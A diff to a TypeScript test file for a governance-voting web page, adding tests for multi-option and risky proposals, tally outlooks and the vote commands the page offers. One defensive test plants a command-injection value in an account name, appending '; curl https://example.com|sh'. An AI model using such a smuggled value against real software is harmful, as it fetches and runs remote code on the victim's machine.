@@ -11,7 +11,7 @@ import { standingOf, type Standing } from '../src/views/votes/standing';
 import { changed, CONFIG, SUPPLIER } from './changed';
 import { open, options, type Opened } from './opened';
 import { recorded, serveRecording } from './rpc';
-import { HOSTILE, now, PROPOSALS, REALM, voted, VOTER } from './voted';
+import { HOSTILE, now, PROPOSALS, REALM, SIGNER, SUPPLIER as SLASHED, voted, VOTER } from './voted';
 
 type Accounts = typeof recorded.accounts;
 const accounts = await voted();
@@ -37,9 +37,9 @@ test('a realm is found by the authority, and what it votes on is said', async ()
   assert.deepEqual([...all.keys()].sort(), Object.values(PROPOSALS).toSorted());
   const words = (of: Address) => all.get(of)?.[0].contents.acts.map((act) => act.words);
   assert.deepEqual(words(PROPOSALS.stake), ['emissions: stake-per-unit 200 → 150 IO']);
-  assert.deepEqual(words(PROPOSALS.executed), ['emissions: stake-per-unit 200 IO, as it is now']);
+  assert.deepEqual(words(PROPOSALS.executed), ['emissions: stake-per-unit 200 IO']);
   assert.match(words(PROPOSALS.payment)?.[0] ?? '', /^pay 2 SOL from the treasury to \w+$/);
-  assert.match(words(PROPOSALS.passed)?.[0] ?? '', /^emissions: guardian \w+ → \w+$/);
+  assert.match(words(PROPOSALS.passed)?.[0] ?? '', /^emissions: guardian \w+ → \w+, at once$/);
   assert.equal(all.get(PROPOSALS.payment)?.[0].contents.hidden, 1);
   const states = Object.entries(PROPOSALS).map(([name, of]) => [name, all.get(of)?.[1].state]);
   assert.deepEqual(Object.fromEntries(states), {
@@ -51,6 +51,7 @@ test('a realm is found by the authority, and what it votes on is said', async ()
     rejected: 'rejected',
     several: 'voting',
     draft: 'draft',
+    risky: 'voting',
   });
 });
 
@@ -61,7 +62,8 @@ test('what is needed is the part of the rules, and more than No', async () => {
   assert.equal(of(PROPOSALS.stake).needed, 139_900n * ONE_IO);
   assert.equal(of(PROPOSALS.executed).needed, 10_000n * ONE_IO);
   assert.equal(of(PROPOSALS.rejected).needed, 40_000n * ONE_IO + 1n);
-  assert.equal(of(PROPOSALS.several).tally, undefined);
+  const { tally, needed, outlook } = of(PROPOSALS.several);
+  assert.deepEqual([tally, needed, outlook], [undefined, 139_900n * ONE_IO, 'passes if nothing changes']);
   assert.match(of(PROPOSALS.stake).outlook ?? '', /^passes with 132,400\.00\s*IO more of Yes$/);
   assert.equal(of(PROPOSALS.payment).outlook, 'does not pass, unless No votes are withdrawn');
   assert.equal(of(PROPOSALS.ended).outlook, 'is rejected once it is counted');
@@ -162,7 +164,7 @@ describe('votes on the page', options, () => {
     assert.deepEqual(await commands(payment), [`io gov vote ${payment} no`]);
     assert.deepEqual(await commands(ended), [`io gov finalize ${ended}`]);
     assert.deepEqual(await commands(passed), [`io gov execute ${passed}`]);
-    assert.deepEqual([await commands(several), await commands(draft)], [[], []]);
+    assert.deepEqual([await commands(several), await commands(draft)], [[`io gov vote ${several} no`], []]);
     await it.browser.value(`location.hash = '#votes/${VOTER}'`);
     await it.shows('Weight');
     await it.shows('of 699,500 IO staked, 1.07 %');
@@ -175,9 +177,64 @@ describe('votes on the page', options, () => {
     assert.match(text, /pay 2 SOL from the treasury to \w{32,44}\n/);
     assert.match(text, /not of this suite: it can do everything that the governance and the treasury can sign/);
     assert.match(text, /1 transaction that cannot be read here: nobody can say from this page what a Yes does\./);
-    await it.browser.value(`document.querySelector('[id="${PROPOSALS.payment}"] summary').click()`);
-    assert.match(await card(PROPOSALS.payment), /program\n[^]* signs may change/);
-    assert.match(await card(PROPOSALS.several), /It has several options, or none to reject it/);
+    assert.match(text, /program [^]*account 1 [^]* signs may change[^]*data 020000000094357700000000/);
+  });
+
+  test('of several options each has its Yes, and No is what can be voted', async () => {
+    const text = await card(PROPOSALS.several);
+    for (const words of [
+      'Only No can be voted here',
+      'Yes to option 1, Approve\n150,000.00 IO',
+      'Yes to option 2, B300\n10.00 IO',
+      'Needed, of each option\n139,900.00 IO',
+      'No\n5.00 IO',
+      'It passes if nothing changes.',
+      '1 transaction that cannot be read here',
+    ]) {
+      assert.ok(text.includes(words), `${words}: ${text}`);
+    }
+  });
+
+  test('what the words do not say whole has its accounts by name, and its data', async () => {
+    for (const of of [PROPOSALS.several, PROPOSALS.risky]) {
+      const text = await card(of);
+      assert.ok(text.includes(`emissions: withdraw slash, supplier ${SLASHED}, slash `), text);
+      const short = (address: string) => `${address.slice(0, 4)}…${address.slice(-4)}`;
+      assert.match(text, new RegExp(`\\nsupplier \\s*${short(SLASHED)}`));
+      assert.match(text, /approval none\n/);
+      assert.match(text, /\ndata [0-9a-f]{16}\n/);
+    }
+    // The words of a change say all of it.
+    assert.doesNotMatch(await card(PROPOSALS.stake), /Accounts and data/);
+  });
+
+  test('what keeps others from executing, and what a Yes overtakes', async () => {
+    const text = await card(PROPOSALS.risky);
+    for (const words of [
+      /has to sign its execution: without that nobody can execute it/,
+      /waits 400 d after the vote, where the rules ask for 1 d: executed from \d+ \w+ 20\d\d, \d\d:\d\d UTC at the earliest/,
+      /These 2 transactions can be executed in any order, each by itself\./,
+      /Once it is executed, changes with lower numbers cannot be, those of [^]*Stake per unit 150 IO[^]*\./,
+    ]) {
+      assert.match(text, words);
+    }
+    const signers = await it.browser.value<string[]>(
+      `[...document.querySelectorAll('[id="${PROPOSALS.risky}"] small.warn [title]')].map((it) => it.title)`,
+    );
+    assert.ok(signers.includes(SIGNER), `${signers}`);
+    const links = await it.browser.value<string[]>(
+      `[...document.querySelectorAll('[id="${PROPOSALS.risky}"] .wrong a')].map((it) => it.hash)`,
+    );
+    assert.deepEqual(links.sort(), [PROPOSALS.stake, PROPOSALS.ended].map((of) => `#votes/${of}`).sort());
+    for (const harmless of [PROPOSALS.stake, PROPOSALS.ended]) {
+      assert.doesNotMatch(await card(harmless), /has to sign|the rules ask for|in any order|cannot be executed/);
+    }
+    // Once a change with a higher number is executed.
+    const later = changed(accounts, CONFIG, () => ({ proposals: 4 }));
+    await it.load(`${it.page}#votes`, later);
+    await it.shows('cannot be executed: its program has taken a change with this number or a higher one');
+    assert.match(await card(PROPOSALS.stake), /cannot be executed: its program/);
+    assert.doesNotMatch(await card(PROPOSALS.ended), /cannot be executed: its program/);
   });
 
   test('a title of a stranger is text, and turns nothing around it', async () => {
@@ -234,6 +291,21 @@ describe('votes on the page', options, () => {
     await it.shows('The realm does not vote by staked IO');
     await it.load(`${it.page}#votes`, await voted(VOTER));
     await it.shows('The realm has a council, whose realm proposals are not shown here.');
+  });
+
+  test('where votes by stake are disabled, nothing is said of a threshold, and no vote is offered', async () => {
+    await it.load(`${it.page}#votes`, await voted(undefined, { __kind: 'Disabled' }));
+    await it.shows('Votes by stake are disabled in this realm');
+    assert.ok(!(await it.text()).includes('passes with Yes of'));
+    for (const of of [PROPOSALS.stake, PROPOSALS.several]) assert.deepEqual(await commands(of), []);
+  });
+
+  test('a node cannot write a command by what it calls an account', async () => {
+    const wrong = `${PROPOSALS.stake} yes; curl https://example.com|sh #\n` as Address;
+    const named = accounts.map((account) => (account.pubkey === PROPOSALS.stake ? { ...account, pubkey: wrong } : account));
+    await it.load(`${it.page}#votes`, named);
+    await it.shows('its answer to getProgramAccounts cannot be read');
+    assert.ok(!(await it.text()).includes('curl'));
   });
 
   test('it fits 380 and 1,280 px, and every control has a name', async () => {
